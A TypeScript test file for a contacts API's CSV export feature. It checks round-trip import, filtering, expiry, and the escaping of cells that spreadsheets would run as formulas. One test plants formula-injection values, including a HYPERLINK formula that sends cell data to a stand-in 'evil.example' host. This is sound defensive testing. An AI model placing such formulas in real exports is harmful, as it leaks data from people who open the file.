import { env } from 'cloudflare:workers';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Bindings } from '../../src/env';
import { dbFor } from '../../src/platform/d1/db';
import { wiring } from '../../src/wiring';
import { shardOf } from '../support/db';
import { makeWorkspace, type TestWorkspace, uuidRe } from '../support/harness';
import { callWith, drain, heldEnv, upload } from './bulk-helpers';

const files = (env as unknown as Bindings).FILES;
const json = (ws: TestWorkspace, held: ReturnType<typeof heldEnv>, method: string, path: string, body?: unknown) =>
  callWith(held.env, ws, method, path, body === undefined ? undefined : JSON.stringify(body), 'application/json');

/** Every contact of the workspace as its answer reads, without what differs between two workspaces, by email. */
async function contactsOf(ws: TestWorkspace, held: ReturnType<typeof heldEnv>) {
  const page = await callWith(held.env, ws, 'GET', '/v1/contacts?limit=500&sort=created_at');
  const tagNames = new Map((await callWith(held.env, ws, 'GET', '/v1/tags?limit=500')).body.data.map((t: any) => [t.id, t.name]));
  return page.body.data
    .map(({ id: _i, workspace_id: _w, created_at: _c, updated_at: _u, tags, groups: _g, ...rest }: any) => ({
      ...rest,
      tags: tags.map((t: string) => tagNames.get(t)).sort(),
    }))
    .sort((a: any, b: any) => String(a.email ?? a.phone).localeCompare(String(b.email ?? b.phone)));
}

describe('contact exports', () => {
  it('exports the contacts as CSV that imports into the same contacts', async () => {
    const ws = await makeWorkspace({}, { pipeline: false, bulk: true });
    const held = heldEnv();
    const seeded = await json(ws, held, 'POST', '/v1/contacts/batch', {
      contacts: [
        { email: 'ada@example.com', name: 'Ada Lovelace', city: 'London, UK', tags: ['vip', 'math'], custom_fields: { plan: 'pro', seats: 3 } },
        { phone: '+14155550191', first_name: 'Grace', last_name: 'Hopper', lifecycle_stage: 'customer', annual_revenue: 1250.5 },
        { email: 'quote@example.com', notes: 'Said "hi"\nthen left; twice', custom_fields: { nested: { a: [1, 2] }, flag: true } },
        { email: 'plain@example.com', employee_count: 40, date_of_birth: '1990-04-17', block_state: 'workspace' },
      ],
    });
    expect(seeded.body.data.every((d: any) => d.status === 201)).toBe(true);
    const created = await json(ws, held, 'POST', '/v1/contact-exports', {});
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ id: expect.stringMatching(uuidRe), status: 'queued', row_count: 0, completed_at: null });
    const early = await callWith(held.env, ws, 'GET', `/v1/contact-exports/${created.body.id}/download`);
    expect(early.status).toBe(409);
    expect(early.body.error_code).toBe('EXPORT_NOT_READY');
    await drain(held.env, held.sent);
    const done = await callWith(held.env, ws, 'GET', `/v1/contact-exports/${created.body.id}`);
    expect(done.body).toMatchObject({ status: 'completed', row_count: 4, completed_at: expect.any(String), expires_at: expect.any(String) });
    const file = await callWith(held.env, ws, 'GET', `/v1/contact-exports/${created.body.id}/download`);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const [header] = file.body.split('\r\n');
    expect(header.split(',')).toEqual(
      expect.arrayContaining([
        'id',
        'email',
        'phone',
        'tags',
        'custom_fields.plan',
        'custom_fields.seats',
        'whatsapp_consent_state',
        'email_consent_state',
      ]),
    );
    expect(file.body.split('\r\n').filter(Boolean)).toHaveLength(5);

    const copy = await makeWorkspace({}, { pipeline: false, bulk: true });
    const imported = await upload(held.env, copy, file.body);
    expect(imported.status).toBe(201);
    await drain(held.env, held.sent);
    const report = await callWith(held.env, copy, 'GET', `/v1/contact-imports/${imported.body.id}`);
    expect(report.body).toMatchObject({ status: 'completed', created: 4, failed: 0 });
    const [original, again] = [await contactsOf(ws, held), await contactsOf(copy, held)];
    expect(again.map((c: any) => ({ ...c, source: 'api' }))).toEqual(original);
  });

  it('writes every cell a spreadsheet would run as a formula behind a quote, stores nothing changed, and imports back the same contacts', async () => {
    const ws = await makeWorkspace({}, { pipeline: false, bulk: true });
    const held = heldEnv();
    const planted = {
      email: 'planted@example.com',
      phone: '+14155550177',
      name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
      address_line1: '+SUM(1,2)',
      address_line2: '-2+3',
      city: '@cmd',
      annual_revenue: -1250.5,
      job_title: "'=already quoted",
      tags: ['=tag', 'plain'],
      groups: ['@group'],
      custom_fields: { formula: '=1+1', negative: -5, tab: '\tTabbed', cr: '\rCarriage', quoted: "''+twice", text: "'kept as it is", word: 'safe' },
    };
    const seeded = await json(ws, held, 'POST', '/v1/contacts/batch', { contacts: [planted, { email: 'safe@example.com', name: 'Safe Name' }] });
    expect(seeded.body.data.every((d: any) => d.status === 201)).toBe(true);
    const created = await json(ws, held, 'POST', '/v1/contact-exports', {});
    await drain(held.env, held.sent);
    const file = await callWith(held.env, ws, 'GET', `/v1/contact-exports/${created.body.id}/download`);
    expect(file.status).toBe(200);
    const [header, ...records] = parse(file.body) as string[][];
    const cells = records.find((r) => r.includes('planted@example.com'))!;
    expect(Object.fromEntries(header.map((column, i) => [column, cells[i]]))).toMatchObject({
      email: 'planted@example.com',
      phone: "'+14155550177",
      name: `'${planted.name}`,
      address_line1: "'+SUM(1,2)",
      address_line2: "'-2+3",
      city: "'@cmd",
      annual_revenue: "'-1250.5",
      job_title: "''=already quoted",
      tags: "'=tag|plain",
      groups: "'@group",
      'custom_fields.formula': "'=1+1",
      'custom_fields.negative': "'-5",
      'custom_fields.tab': "'\tTabbed",
      'custom_fields.cr': "'\rCarriage",
      'custom_fields.quoted': "'''+twice",
      'custom_fields.text': "'kept as it is",
      'custom_fields.word': 'safe',
    });
    // No data cell starts as a formula would.
    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(records.find((r) => r.includes('safe@example.com'))).toContain('Safe Name');
    // What is stored is what was written.
    const stored = (await callWith(held.env, ws, 'GET', '/v1/contacts?limit=10')).body.data.find((c: any) => c.email === planted.email);
    expect(stored).toMatchObject({
      name: planted.name,
      phone: planted.phone,
      address_line1: planted.address_line1,
      annual_revenue: planted.annual_revenue,
      job_title: planted.job_title,
      custom_fields: planted.custom_fields,
    });

    const copy = await makeWorkspace({}, { pipeline: false, bulk: true });
    const imported = await upload(held.env, copy, file.body);
    expect(imported.status, JSON.stringify(imported.body)).toBe(201);
    await drain(held.env, held.sent);
    expect((await callWith(held.env, copy, 'GET', `/v1/contact-imports/${imported.body.id}`)).body).toMatchObject({
      status: 'completed',
      created: 2,
      failed: 0,
    });
    const [original, again] = [await contactsOf(ws, held), await contactsOf(copy, held)];
    expect(again.map((c: any) => ({ ...c, source: 'api' }))).toEqual(original);
    const groupsOf = async (w: TestWorkspace) =>
      (await callWith(held.env, w, 'GET', '/v1/contact-groups?limit=100')).body.data.map((g: any) => g.name);
    expect(await groupsOf(copy)).toEqual(await groupsOf(ws));
  });

  it('exports only what the filter selects, across several pages', async () => {
    const ws = await makeWorkspace({}, { pipeline: false, bulk: true });
    const held = heldEnv();
    for (let b = 0; b < 12; b++) {
      const contacts = Array.from({ length: 100 }, (_, i) => ({ email: `p${b}-${i}@example.com`, lifecycle_stage: i % 2 ? 'lead' : 'customer' }));
      await json(ws, held, 'POST', '/v1/contacts/batch', { contacts });
    }
    const created = await json(ws, held, 'POST', '/v1/contact-exports', { filter: { lifecycle_stage: 'customer' } });
    await drain(held.env, held.sent);
    const done = await callWith(held.env, ws, 'GET', `/v1/contact-exports/${created.body.id}`);
    expect(done.body).toMatchObject({ status: 'completed', row_count: 600, filter: { lifecycle_stage: 'customer' } });
    const file = await callWith(held.env, ws, 'GET', `/v1/contact-exports/${created.body.id}/download`);
    const lines = file.body.split('\r\n').filter(Boolean);
    expect(lines).toHaveLength(601);
    expect(new Set(lines.slice(1).map((l: string) => l.split(',')[1])).size).toBe(600);
    expect(lines.slice(1).every((l: string) => l.includes(',customer,'))).toBe(true);
    const bad = await json(ws, held, 'POST', '/v1/contact-exports', { filter: { no_such_field: 1 } });
    expect(bad.status).toBe(400);
    expect(bad.body.message).toContain('Invalid filter');
  });

  it('deletes the file after 7 days and answers 410 for the download', async () => {
    const ws = await makeWorkspace({}, { pipeline: false });
    const held = heldEnv();
    await json(ws, held, 'POST', '/v1/contacts', { email: 'old@example.com' });
    const created = await json(ws, held, 'POST', '/v1/contact-exports', {});
    await drain(held.env, held.sent);
    const prefix = `contact-exports/${ws.id}/${created.body.id}/`;
    expect((await files.list({ prefix })).objects).toHaveLength(1);
    const shard = await shardOf(ws.id);
    await shard
      .prepare('UPDATE contact_exports SET expires_at = ? WHERE id = ?')
      .bind(new Date(Date.now() - 1000).toISOString(), created.body.id)
      .run();
    const result = await wiring.sweeps.get('contact-exports')!(env as unknown as Bindings, dbFor(shard));
    expect(result.contact_exports_expired).toBeGreaterThanOrEqual(1);
    expect((await files.list({ prefix })).objects).toEqual([]);
    expect((await callWith(held.env, ws, 'GET', `/v1/contact-exports/${created.body.id}`)).body.status).toBe('expired');
    const gone = await callWith(held.env, ws, 'GET', `/v1/contact-exports/${created.body.id}/download`);
    expect(gone.status).toBe(410);
    expect(gone.body).toEqual({
      statusCode: 410,
      message: `Contact export ${created.body.id} has expired: export files are kept 7 days`,
      error: 'Gone',
      error_code: 'EXPORT_EXPIRED',
    });
  });
});
